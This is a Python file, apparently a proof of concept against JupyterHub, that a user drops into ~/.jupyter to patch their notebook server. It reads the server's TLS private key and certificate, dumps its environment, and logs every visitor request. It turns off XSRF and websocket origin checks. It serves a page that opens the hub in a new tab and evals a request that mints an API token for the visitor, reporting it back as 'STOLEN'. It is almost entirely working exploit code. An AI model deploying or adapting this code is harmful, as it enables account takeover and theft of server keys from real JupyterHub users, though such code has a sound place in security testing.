"""A file that any user can put into ~/.jupyter to turn the user's own notebook server against its visitors.

The server records its environment and every request to /user/NAME/hostile for its owner. There it also serves a page
that acts in the hub as its visitor: a link opens the hub in a new tab, which a page of the same origin may read.
"""

from __future__ import annotations

import contextlib
import json
import os
from pathlib import Path
from typing import Any

from jupyter_server.serverapp import ServerWebApplication
from tornado.web import RequestHandler
from tornado.websocket import WebSocketHandler

PAGE = """<!doctype html><title>notebook</title><a id=link href=#>Look at my notebook</a><script>
const report = text => fetch(location.pathname + "/report", {method: "POST", body: text});
link.onclick = () => {
  const tab = window.open("/hub/home");
  const timer = setInterval(async () => {
    try {
      const data = tab.jhdata;
      if (!data?.xsrf_token) return;
      clearInterval(timer);
      // The hub's own page sends this request, so its origin is the hub.
      const answer = await tab.eval(`fetch("/hub/api/users/${data.user}/tokens", {
        method: "POST", body: '{"note": "lab"}',
        headers: {"X-XSRFToken": "${data.xsrf_token}", "Content-Type": "application/json"}})`);
      await report(`STOLEN ${data.user} ${answer.status} ${await answer.text()}`);
    } catch (error) { clearInterval(timer); await report(`failed: ${error}`); }
  }, 200);
};
</script>"""

DIRECTORY = Path.home() / ".hostile"
DIRECTORY.mkdir(mode=0o700, exist_ok=True)


def memory_files(name: str) -> list[str]:
    """Return the paths of this process's anonymous files of a name."""
    found = []
    for link in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):  # the directory itself is closed meanwhile
            if str(link.readlink()).startswith(f"/memfd:{name} "):
                found.append(str(link))
    return found


# Code in the notebook server, such as this, can read the server's key and certificate: in files that its environment
# names, or in anonymous files that the server has open.
places = [os.environ.get("JUPYTERHUB_SSL_KEYFILE"), os.environ.get("JUPYTERHUB_SSL_CERTFILE")]
places += memory_files("hpchub_tls_key") + memory_files("hpchub_tls_certificate")
pem = "\n".join(Path(place).read_text() for place in places if place)
known = {"pid": os.getpid(), "environment": dict(os.environ), "pem": pem}
(DIRECTORY / "server.json").write_text(json.dumps(known))


class Hostile(RequestHandler):
    def check_xsrf_cookie(self) -> None:
        pass

    def prepare(self) -> None:
        request = self.request
        entry = [request.method, request.uri, list(request.headers.get_all()), request.body.decode(errors="replace")]
        with (DIRECTORY / "requests").open("a") as stream:
            stream.write(json.dumps(entry) + "\n")

    def get(self) -> None:
        self.finish(PAGE)

    def post(self) -> None:
        self.finish("thank you")


class Socket(WebSocketHandler):
    def check_origin(self, origin: str) -> bool:
        return True

    def on_message(self, message: str | bytes) -> None:
        self.write_message(message)


init_handlers = ServerWebApplication.init_handlers


def init_hostile_handlers(self: Any, *arguments: Any, **named: Any) -> list[Any]:
    prefix = os.environ["JUPYTERHUB_SERVICE_PREFIX"]
    return [
        (prefix + "hostile/socket", Socket),
        (prefix + "hostile.*", Hostile),
        *init_handlers(self, *arguments, **named),
    ]


ServerWebApplication.init_handlers = init_hostile_handlers
